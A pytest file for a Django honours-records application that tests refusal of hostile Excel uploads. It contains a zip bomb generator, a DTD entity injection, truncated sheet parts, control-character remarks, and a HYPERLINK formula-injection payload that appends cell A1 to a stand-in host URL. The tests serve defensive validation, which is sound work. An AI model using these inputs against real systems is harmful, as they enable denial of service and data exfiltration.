"""Hostile files through the real pages: zip bombs, DTDs, damaged parts, control characters and
formulas in user text. Every file is built here from the application's own templates."""

from __future__ import annotations

import io
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from thidua.cycle.models import ResultSheet
from thidua.honours.importers import import_workbook, template_workbook
from thidua.org.models import User
from thidua.untrusted import strip_control

pytestmark = pytest.mark.django_db

LAO_CAI = "lao-cai-2025"
ROW = b'<row><c t="inlineStr"><is><t>Bom</t></is></c></row>'


def client_for(username: str) -> Client:
    client = Client()
    client.force_login(User.objects.get(username=username))
    return client


def url(name: str, *extra) -> str:
    return reverse(name, args=[2025, 3, *extra])


def results_template(officer: Client) -> bytes:
    response = officer.get(url("cycle_excel_results_template", LAO_CAI))
    assert response.status_code == 200
    return response.content


def sheet_part(data: bytes, title: str) -> str:
    """The zip member holding the sheet named `title` (found through the workbook's relations)."""
    wb = load_workbook(io.BytesIO(data))
    index = wb.sheetnames.index(title) + 1
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
    return next(n for n in names if n == f"xl/worksheets/sheet{index}.xml")


def replace_part(data: bytes, name: str, writer) -> bytes:
    """The same workbook with one member rewritten by `writer(stream, original)` (streamed)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            original = src.read(info.filename)
            if info.filename == name:
                member = zipfile.ZipInfo(name)
                member.compress_type = zipfile.ZIP_DEFLATED
                with dst.open(member, "w", force_zip64=True) as stream:
                    writer(stream, original)
            else:
                dst.writestr(info, original)
    return out.getvalue()


def bomb_writer(megabytes: int):
    """A sheet of `megabytes` MB of identical rows: it deflates ~1000 to 1."""
    block = ROW * (1024 * 1024 // len(ROW))

    def write(stream, original: bytes) -> None:
        stream.write(original[: original.index(b"<sheetData>") + len(b"<sheetData>")])
        for _ in range(megabytes):
            stream.write(block)
        stream.write(b"</sheetData></worksheet>")

    return write


def test_a_results_workbook_that_explodes_when_inflated_is_refused_before_it_is_read():
    officer = client_for("canbo.laocai")
    template = results_template(officer)
    bomb = replace_part(template, sheet_part(template, "Số liệu"), bomb_writer(64))
    assert len(bomb) < 1024 * 1024  # well under a megabyte on the wire, 64 MB once inflated
    before = ResultSheet.objects.get(cycle__cluster__year=2025, unit__code=LAO_CAI).version

    tracemalloc.start()
    response = officer.post(
        url("cycle_excel_results_upload", LAO_CAI),
        {"file": SimpleUploadedFile("so-lieu.xlsx", bomb)},
    )
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert response.status_code == 422
    page = response.content.decode()
    assert "giải nén gấp" in page and "không được nhận" in page
    # Refused from the zip's directory: nothing near the 64 MB of the sheet was ever allocated.
    assert peak < 16 * 1024 * 1024, f"peak {peak / 1048576:.1f} MB"
    assert ResultSheet.objects.get(cycle__cluster__year=2025, unit__code=LAO_CAI).version == before


def test_a_records_workbook_too_large_once_inflated_is_refused_by_the_honours_import():
    template = template_workbook()
    name = sheet_part(template, load_workbook(io.BytesIO(template)).sheetnames[0])
    bomb = replace_part(template, name, bomb_writer(110))
    user = User.objects.get(username="canbo.laocai")

    tracemalloc.start()
    result = import_workbook(SimpleUploadedFile("ho-so.xlsx", bomb), user)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    messages = [str(e) for e in result.errors]
    assert any("quá lớn khi giải nén" in m for m in messages), messages
    assert peak < 16 * 1024 * 1024, f"peak {peak / 1048576:.1f} MB"


def test_a_sheet_with_a_dtd_is_refused_in_vietnamese_not_a_server_error():
    officer = client_for("canbo.laocai")
    template = results_template(officer)

    def with_dtd(stream, original: bytes) -> None:
        root = original.index(b"<worksheet")
        dtd = b'<!DOCTYPE worksheet [<!ENTITY e "Bom">]>'
        stream.write(original[:root] + dtd + original[root:].replace(b"<t>", b"<t>&e;", 1))

    hostile = replace_part(template, sheet_part(template, "Số liệu"), with_dtd)
    response = officer.post(
        url("cycle_excel_results_upload", LAO_CAI),
        {"file": SimpleUploadedFile("so-lieu.xlsx", hostile)},
    )
    assert response.status_code == 422
    assert "khai báo DTD" in response.content.decode()


def test_a_truncated_sheet_is_refused_by_the_honours_import_naming_the_damage():
    template = template_workbook()
    name = sheet_part(template, load_workbook(io.BytesIO(template)).sheetnames[0])

    def truncated(stream, original: bytes) -> None:
        stream.write(original[: len(original) // 2])

    damaged = replace_part(template, name, truncated)
    user = User.objects.get(username="canbo.laocai")
    result = import_workbook(SimpleUploadedFile("ho-so.xlsx", damaged), user)
    messages = [str(e) for e in result.errors]
    assert any("bị hỏng" in m and name in m for m in messages), messages


def test_a_remark_with_control_characters_is_stored_without_them_and_the_template_still_opens():
    officer = client_for("canbo.laocai")
    sheet = ResultSheet.objects.get(cycle__cluster__year=2025, unit__code=LAO_CAI)
    code = next(iter(sheet.values))
    sheet.save_values(
        by=User.objects.get(username="canbo.laocai"),
        values=sheet.values,
        remarks={**sheet.remarks, code: "Theo\x01 báo cáo\x0b tháng\x1f 11\x7f"},
        expected_version=sheet.version,
    )
    sheet.refresh_from_db()
    assert sheet.remarks[code] == "Theo báo cáo tháng 11"
    wb = load_workbook(io.BytesIO(results_template(officer)))
    assert "Theo báo cáo tháng 11" in [
        c.value for row in wb["Số liệu"].iter_rows() for c in row if isinstance(c.value, str)
    ]


def test_strip_control_keeps_text_tabs_and_new_lines():
    assert strip_control("Dòng 1\nDòng\t2\r\n\x00\x1b[31m\u200b") == "Dòng 1\nDòng\t2\r\n[31m\u200b"


def test_a_remark_that_looks_like_a_formula_comes_back_as_text_in_the_units_template():
    officer = client_for("canbo.laocai")
    sheet = ResultSheet.objects.get(cycle__cluster__year=2025, unit__code=LAO_CAI)
    code = next(iter(sheet.values))
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Xem minh chứng")'
    sheet.save_values(
        by=User.objects.get(username="canbo.laocai"),
        values=sheet.values,
        remarks={**sheet.remarks, code: formula},
        expected_version=sheet.version,
    )
    wb = load_workbook(io.BytesIO(results_template(officer)))  # formulas kept as formulas
    cells = [c for row in wb["Số liệu"].iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)


def test_the_shared_checks_sit_below_every_app_they_serve():
    """cycle, honours and documents all import thidua.untrusted: it imports none of them."""
    import ast
    from pathlib import Path

    import thidua.untrusted

    tree = ast.parse(Path(thidua.untrusted.__file__).read_text(encoding="utf-8"))
    modules = {
        node.module for node in ast.walk(tree) if isinstance(node, ast.ImportFrom) and node.module
    } | {a.name for node in ast.walk(tree) if isinstance(node, ast.Import) for a in node.names}
    assert not {m for m in modules if m.startswith("thidua")}, modules
